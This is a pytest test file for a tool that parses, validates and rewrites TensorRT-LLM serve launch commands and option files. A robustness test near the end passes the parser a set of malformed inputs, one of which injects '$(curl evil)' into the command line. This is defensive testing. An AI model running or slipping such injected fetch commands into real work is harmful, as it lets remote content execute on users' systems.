"""TensorRT-LLM's serve commands: read, checked, written.

Rules are those of its source: mapping.py Mapping.__init__ and pp_layers, and of its feature
combination matrix; flags those of its api_stability reference trtllm_serve_cli.yaml.
"""

import json
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plait.cli.main import main
from plait.dialects import trtllm
from plait.spec import presets
from plait.spec.jobfile import draft
from serve_helpers import again, errors, job_of, read, same_layout


@pytest.fixture
def explain(capsys):
    def run(command, *flags):
        code = main(["explain", "--from", "trtllm", str(command), "--json", *flags])
        return code, json.loads(capsys.readouterr().out)

    return run


def found(report):
    return {f["rule"]: f for f in report["findings"]}


@pytest.mark.parametrize(
    ("command", "layout"),
    [
        ("trtllm-serve Qwen/Qwen3-8B --tp_size 2", {"tp": 2}),
        (
            "trtllm-serve serve deepseek-ai/DeepSeek-R1 --tensor_parallel_size 8 --ep_size 4",
            {"tp": 8, "ep": 4, "etp": 2},
        ),
        (
            "mpirun -n 8 trtllm-llmapi-launch trtllm-serve deepseek-ai/DeepSeek-R1 --tp_size 8"
            " --ep_size 8 --enable_attention_dp",
            {"tp": 1, "dp_shard": 8, "ep": 8, "etp": 1},
        ),
        (
            'srun -N 2 --ntasks 16 bash -c "trtllm-llmapi-launch trtllm-serve'
            ' meta-llama/Llama-3.1-405B --tp_size 8 --pp_size 2"',
            {"tp": 8, "pp": 2},
        ),
    ],
)
def test_commands(command, layout):
    launch = read(trtllm, command)
    job = job_of(launch)
    assert {name: getattr(job.layout, name) for name in layout} == layout
    assert not launch.unknown()


SCRIPT = """\
cat > extra.yml <<EOF
enable_attention_dp: true
tensor_parallel_size: 8
moe_config:
  backend: CUTLASS
  load_balancer:
    num_slots: 288
kv_cache_config:
  dtype: fp8
  free_gpu_memory_fraction: 0.8
cuda_graph_config: {max_batch_size: 128}
nothing_like_it: 1
EOF
trtllm-serve deepseek-ai/DeepSeek-R1 --tp_size 4 --ep_size 8 --max_batch_size 128 \\
  --extra_llm_api_options extra.yml
"""


def test_the_file_of_options_is_stronger():
    launch = read(trtllm, SCRIPT, ".sh")
    assert (launch.fields["layout.dp_shard"], launch.fields["ranks"]) == (8, 8)
    assert (launch.serving.redundant, launch.serving.kv_dtype) == (32, "fp8")
    assert launch.serving.fraction == 0.8
    assert [setting.name for setting, _ in launch.unknown()] == ["nothing_like_it"]


def test_a_file_that_is_elsewhere_is_left_out(explain):
    for name in ("none.yaml", "${HERE}/options.yaml"):
        code, report = explain(f"trtllm-serve Qwen/Qwen3-8B --tp_size 2 --config {name}")
        assert (code, report["layout"]["tp"]) == (0, 2)
        assert found(report)["file-not-here"]["level"] == "warning"


def test_python_and_a_file_of_options_alone():
    program = (
        "from tensorrt_llm import LLM\n"
        'llm = LLM(model="Qwen/Qwen3-8B", tensor_parallel_size=4, pipeline_parallel_size=2)\n'
    )
    assert read(trtllm, program, ".py").fields["layout.pp"] == 2
    options = "model: Qwen/Qwen3-30B-A3B\ntensor_parallel_size: 8\nmoe_tensor_parallel_size: 2\n"
    launch = read(trtllm, options, ".yaml")
    assert (launch.fields["layout.ep"], launch.fields["layout.etp"]) == (4, 2)


def test_a_batch_is_of_each_attention_dp_rank(explain):
    words = "trtllm-serve deepseek-ai/DeepSeek-R1 --tp_size 8 --ep_size 8 --enable_attention_dp"
    _, report = explain(f"{words} --max_batch_size 128")
    assert report["serving"]["limits"][0]["in_all"] == 1024
    assert "1024 in all" in found(report)["trtllm-batch-of-a-rank"]["message"]


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        ("deepseek-ai/DeepSeek-R1 --tp_size 8 --ep_size 3", "trtllm-experts"),
        ("deepseek-ai/DeepSeek-R1 --tp_size 8 --ep_size 2 --cluster_size 2", "trtllm-experts"),
        ("deepseek-ai/DeepSeek-R1 --tp_size 8 --ep_size 2 --cp_size 2", "trtllm-context-experts"),
        ("Qwen/Qwen3-8B --tp_size 3", "heads-divide-tp"),
        ("Qwen/Qwen3-8B --backend tensorrt", "trtllm-backend"),
        ("Qwen/Qwen3-8B --free_gpu_memory_fraction 2.0", "trtllm-memory-fraction"),
        ("Qwen/Qwen3-8B --pp_size 40", "trtllm-stages"),
    ],
)
def test_what_it_refuses(words, rule, explain):
    code, report = explain(f"trtllm-serve {words}")
    assert code == 1
    assert found(report)[rule]["level"] == "error"
    legal = report["source"]["legal"]
    assert legal
    code, report = explain(next(iter(legal.values())).removeprefix("#!/bin/sh\n"))
    assert code == 0, (legal, report["findings"])


def test_helix_shares_the_cache_over_ranks_of_its_own():
    text = SCRIPT.replace("enable_attention_dp: true", "cp_config: {cp_type: HELIX}").replace(
        "--ep_size 8", "--ep_size 8 --cp_size 2"
    )
    launch = read(trtllm, text.replace("  load_balancer:\n    num_slots: 288\n", ""), ".sh")
    job = job_of(launch)
    assert (job.layout.tp, job.layout.cp, job.layout.dcp) == (8, 2, 2)
    assert (job.layout.ep, job.layout.etp) == (8, 2)
    assert launch.serving.dense_tp == 16
    assert not errors(trtllm, launch, job)


def test_nodes_are_started_together(explain):
    _, report = explain("trtllm-serve meta-llama/Llama-3.1-405B --tp_size 6")
    assert report["source"]["legal"]
    job = job_of(read(trtllm, "trtllm-serve meta-llama/Llama-3.1-405B --tp_size 16"))
    text = trtllm.write(job).files["serve.sh"]
    assert "srun --nodes=2 --ntasks=16 --ntasks-per-node=8" in text


@st.composite
def jobs(draw):
    """A job that TensorRT-LLM can express."""
    name = draw(st.sampled_from(("qwen3-8b", "llama3.1-70b", "qwen3-30b-a3b", "deepseek-v3")))
    model = presets.model(name)
    apart = draw(st.booleans()) if model.moe else False
    t, pp = draw(st.sampled_from((1, 2, 4, 8))), draw(st.sampled_from((1, 2)))
    cp = 1
    helix = not apart and model.mla is not None and draw(st.booleans())
    cp = draw(st.sampled_from((2, 4))) if helix else 1
    group = t * cp
    ep = draw(st.sampled_from([n for n in (1, 2, 4, 8) if group % n == 0])) if model.moe else 1
    layout = {"tp": 1 if apart else t, "dp_shard": t if apart else 1, "dp_replicate": 1}
    layout |= {"pp": pp, "cp": cp, "dcp": cp, "ep": ep, "etp": group // ep if model.moe else 1}
    layout["sequence_parallel"] = False
    fields = {f"layout.{k}": v for k, v in layout.items()}
    return draft("plan", None, fields | {"model": name, "ranks": group * pp}).job


@given(jobs())
@settings(max_examples=60, deadline=None)
def test_written_and_read_again(job):
    launch, back = again(trtllm, job)
    assert not same_layout(job, back)
    assert not errors(trtllm, launch, back)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "trtllm-serve",
        "trtllm-serve Qwen/Qwen3-8B --tp_size 0 --pp_size -4",
        "trtllm-serve Qwen/Qwen3-8B --tp_size " + "9" * 300,
        "trtllm-serve Qwen/Qwen3-8B --config none.yaml",
        "trtllm-serve $(curl evil) --tp_size 8",
        "cat > o.yaml <<E\n- 1\n- 2\nE\ntrtllm-serve Qwen/Qwen3-8B --config o.yaml",
        "cat > o.yaml <<E\nkv_cache_config: [1]\nmoe_config: {load_balancer: {num_slots: x}}\n"
        "pp_partition: oops\ntensor_parallel_size: [8]\nE\n"
        "trtllm-serve Qwen/Qwen3-8B --config o.yaml",
    ],
)
def test_hostile_commands_end_in_lines(text, capsys, monkeypatch):
    monkeypatch.setenv("PLAIT_DEBUG", "1")
    code = main(["explain", "--from", "trtllm", f"{text} "])
    _, err = capsys.readouterr()
    assert code in (0, 1, 2)
    assert (code == 2) == bool(err)


def test_variables_of_a_file_of_options_are_asked_for_and_answered(capsys):
    text = (
        "cat > o.yml <<E\nenable_attention_dp: $SPREAD\nE\n"
        "trtllm-serve deepseek-ai/DeepSeek-R1 --tp_size $TP --ep_size $EP --config o.yml"
    )
    assert main(["explain", "--from", "trtllm", text, "--json"]) == 2
    asked = [error["message"] for error in json.loads(capsys.readouterr().out)["errors"]]
    assert [message.rpartition("say ")[2] for message in asked] == ["--tp", "--ep", "--dp-shard"]
    for tp, shared in ((8, 1), (1, 8)):
        said = ["--tp", str(tp), "--dp-shard", str(shared), "--ep", "8"]
        assert main(["explain", "--from", "trtllm", text, *said, "--json"]) == 0
        report = json.loads(capsys.readouterr().out)
        layout = report["layout"]
        assert (report["world"], layout["tp"], layout["dp_shard"]) == (8, tp, shared)


def test_very_many_chunks_take_no_time(explain):
    """Their layers are counted once, not once for each chunk."""
    before = process_time()
    code, report = explain(
        "trtllm-serve Qwen/Qwen3-30B-A3B --tp_size 2 --pp_size 2", "--vpp", "1000000"
    )
    assert code in (0, 1)
    assert report["layout"]["vpp"] == 1_000_000
    assert process_time() - before < 30
